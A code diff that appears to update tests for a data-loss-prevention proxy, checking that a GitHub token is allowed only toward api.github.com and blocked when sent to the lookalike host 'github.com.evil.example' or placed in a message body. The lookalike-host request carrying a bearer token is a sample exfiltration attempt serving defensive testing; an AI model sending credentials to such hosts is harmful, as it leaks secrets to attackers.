@@ -168,18 +168,21 @@ def test_secret_in_url_path_is_masked_in_incident_and_log(env, caplog):
 
 
 def test_issuer_binding_allows_the_issuer_only(env):
-    f = env.request(post(chat(GHP), host="api.github.com"))
+    auth = {"Authorization": f"Bearer {GHP}"}
+    f = env.request(post(chat("hi"), host="api.github.com", headers=auth))
     assert f.response is None and f.metadata[VERDICT] == "allowed"
     assert env.sample("dlproxy_detections_total", entry="github-pat", direction="request", action="allow") == 1
     assert env.incident_lines() == []
-    f = env.request(post(chat(GHP), host="github.com.evil.example"))
+    f = env.request(post(chat("hi"), host="github.com.evil.example", headers=auth))
+    assert error_of(f)
+    f = env.request(post(chat(GHP), host="api.github.com"))  # in the body: a leak even to the issuer
     assert error_of(f)
 
 
 def test_issuer_binding_option_off_blocks_the_issuer_too(profile_file):
     e = make_env([profile_file], dlp_issuer_binding=False)
     with e.tctx:
-        assert error_of(e.request(post(chat(GHP), host="api.github.com")))
+        assert error_of(e.request(post(chat("hi"), host="api.github.com", headers={"Authorization": f"Bearer {GHP}"})))
 
 
 def test_log_action_forwards_and_records(env):
